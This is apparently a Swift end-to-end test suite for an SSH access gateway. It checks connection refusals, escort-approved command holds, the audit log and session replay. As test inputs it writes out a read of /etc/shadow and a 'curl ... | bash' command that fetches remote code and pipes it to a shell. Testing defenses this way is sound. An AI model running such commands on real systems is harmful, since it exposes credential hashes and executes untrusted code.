#if canImport(Glibc)
import Glibc
#endif
import AuditLog
import EscortCore
import EscortTesting
import Foundation
import StoreSQLite
import Testing

/// `escort demo` end to end with the stock OpenSSH client: the real registry, the bundled policy,
/// local-shell targets, an escort over SSH, the audit log verified afterwards, the recording played.
@Suite(.serialized)
struct GatewayEndToEndTests {
    static let available = BuiltProduct.path("escort") != nil && FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")

    final class Demo: @unchecked Sendable {
        let dir = TemporaryDirectory(prefix: "escort-e2e")
        let process: InteractiveProcess
        let port: Int

        init() async throws {
            process = try InteractiveProcess(BuiltProduct.path("escort")!, ["demo", "--directory", dir.path, "--port", "0", "--web-port", "0"])
            port = try await gatewayPort(process, "demo")
        }

        /// The web console's address (`http://127.0.0.1:PORT/`), as the demo printed it.
        var webURL: String? {
            guard let r = process.output.range(of: #"web console on (http://127\.0\.0\.1:\d+/)"#, options: .regularExpression) else { return nil }
            return String(process.output[r].dropFirst("web console on ".count))
        }

        func ssh(_ login: String, key: String, tty: Bool, _ command: [String] = []) throws -> InteractiveProcess {
            try InteractiveProcess("/usr/bin/ssh", SSHTestKeys.clientArguments(key: dir.file("keys/\(key)"), port: port, login: login, tty: tty) + command)
        }

        func stop() async -> Int32? {
            kill(process.pid, SIGTERM)
            return await process.waitForExit(timeout: 30)
        }
    }

    @Test(.enabled(if: available))
    func escortedForeignEngineerCountryOfConcernAndAnAuditLogThatVerifies() async throws {
        let demo = try await Demo()

        // The engineer located in a country of concern is refused at connect, with the reason.
        let wei = try demo.ssh("wei+db-il5", key: "wei", tty: false, ["--", "df -h"])
        #expect(await wei.waitForExit() == 1)
        #expect(wei.errorOutput.contains("refused"), "\(wei.errorOutput)")
        #expect(wei.errorOutput.contains("country of concern"), "\(wei.errorOutput)")

        // The cleared US engineer runs commands directly (exec request).
        let alice = try demo.ssh("alice+app-il4", key: "alice", tty: false, ["--", "echo direct-$((20+22))"])
        #expect(await alice.waitForExit() == 0)
        #expect(alice.output.contains("direct-42"), "\(alice.output) \(alice.errorOutput)")

        // An unknown key is turned away.
        let strangerKey = demo.dir.file("stranger")
        _ = try SSHTestKeys.make(strangerKey)
        let stranger = try InteractiveProcess("/usr/bin/ssh", SSHTestKeys.clientArguments(key: strangerKey, port: demo.port, login: "alice+app-il4", tty: false) + ["--", "id"])
        #expect(await stranger.waitForExit() == 255)
        #expect(stranger.errorOutput.contains("Permission denied"), "\(stranger.errorOutput)")

        // The foreign engineer abroad: escorted only.
        let priya = try demo.ssh("priya+db-il5", key: "priya", tty: true)
        #expect(await priya.waitFor("escorted session"), "\(priya.output) \(priya.errorOutput)")
        let bob = try demo.ssh("bob", key: "bob", tty: true)
        #expect(await bob.waitFor("priya on db-il5"), "\(bob.output)")
        #expect(bob.output.contains("WAITING FOR AN ESCORT"))
        bob.send("watch 1\r")
        #expect(await bob.waitFor("Attached"))
        #expect(await priya.waitFor("joined"))

        priya.send("df -h\r")
        #expect(await priya.waitFor("Filesystem"), "df -h should run at once: \(priya.output)")
        #expect(await bob.waitFor("Filesystem"), "the escort sees what she sees")

        var mark = priya.output.count
        priya.send("cat /etc/shadow | head -1\r")
        #expect(await priya.waitFor("held for an escort", after: mark), "\(priya.output)")
        #expect(await bob.waitFor("/etc/shadow"))
        #expect(await bob.waitFor("T1003.008"))
        #expect(await bob.approveHeld())
        #expect(await priya.waitFor("approved by bob", after: mark))
        #expect(await priya.waitFor("root:", after: mark), "\(priya.output)")

        mark = priya.output.count
        priya.send("curl -s http://203.0.113.9/install.sh | bash\r")
        #expect(await priya.waitFor("refused", after: mark), "\(priya.output)")

        priya.send("exit\r")
        #expect(await priya.waitForExit() != nil)
        bob.send("quit\r")
        _ = await bob.waitForExit()
        #expect(await demo.stop() == 0)

        // The audit log verifies and holds every decision.
        let db = demo.dir.file("escort.sqlite")
        let verify = try await ChildProcess.run(BuiltProduct.path("escort")!, ["audit", "verify", "--db", db, "--key", demo.dir.file("gateway.key.pub")])
        #expect(verify.status == 0, "\(verify.stdout) \(verify.stderr)")
        let store = try SQLiteAuditStore(path: db, create: false)
        let records = try await store.auditRecords(from: 1, limit: 100_000)
        var byCode: [String: [[String: JSONValue]]] = [:]
        for r in records {
            let o = try JSONParser.parse(r.body).objectValue ?? [:]
            byCode[o["code"]?.stringValue ?? "", default: []].append(o["fields"]?.objectValue ?? [:])
        }
        let forwarded = (byCode[AuditEventCode.commandForwarded.code] ?? []).compactMap { $0["command"]?.stringValue }
        #expect(forwarded.contains("df -h"))
        #expect(forwarded.contains("cat /etc/shadow | head -1"))
        #expect(!forwarded.contains { $0.contains("curl") })
        let refused = (byCode[AuditEventCode.commandRefused.code] ?? []).compactMap { $0["command"]?.stringValue }
        #expect(refused.contains { $0.contains("curl") })
        #expect((byCode[AuditEventCode.commandApproved.code] ?? []).contains { $0["approved_by"] == ["bob"] })
        let accessRefusals = (byCode[AuditEventCode.accessDecided.code] ?? []).filter { $0["decision"] == "refused" }
        #expect(accessRefusals.contains { $0["target"] == "db-il5" })
        #expect(accessRefusals.contains { $0["stage"] == "authentication" })

        // The recording plays.
        let casts = try FileManager.default.contentsOfDirectory(atPath: demo.dir.file("recordings")).filter { $0.hasSuffix(".cast") }
        var played = false
        for cast in casts {
            let replay = try await ChildProcess.run(BuiltProduct.path("escort")!, ["replay", "--max-idle", "0", demo.dir.file("recordings/\(cast)")])
            if replay.status == 0, replay.stdout.contains("Filesystem") { played = true }
        }
        #expect(played, "no recording replays the escorted session: \(casts)")

        // A training scenario drafted from the escorted session: its decisions as they were made.
        var drafted = false
        try FileManager.default.createDirectory(atPath: demo.dir.file("drafts"), withIntermediateDirectories: true)
        for cast in casts {
            let draft = try await ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--draft-from", demo.dir.file("recordings/\(cast)"),
                                                                              "--out", demo.dir.file("drafts/draft.json")])
            guard draft.status == 0 else { continue }
            drafted = true
            let scenario = try JSONParser.parse(Array(try Data(contentsOf: URL(fileURLWithPath: demo.dir.file("drafts/draft.json"))))).objectValue ?? [:]
            let decisions = (scenario["decisions"]?.arrayValue ?? []).compactMap(\.objectValue)
            func answer(_ command: String) -> String? { decisions.first { $0["command"]?.stringValue == command }?["expected"]?.stringValue }
            #expect(answer("df -h") == "approve", "\(decisions)")
            #expect(answer("cat /etc/shadow | head -1") == "approve", "approved by bob: \(decisions)")
            #expect(answer("curl -s http://203.0.113.9/install.sh | bash") == "refuse", "\(decisions)")
            #expect(scenario["impact_level"] == "IL5" && scenario["target"] == "db-il5")
            // It runs like any scenario file.
            let list = try await ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--list", "--scenarios", demo.dir.file("drafts")])
            #expect(list.stdout.contains("Recorded session"), "\(list.stdout) \(list.stderr)")
        }
        #expect(drafted, "no recording drafted a scenario: \(casts)")
    }
}
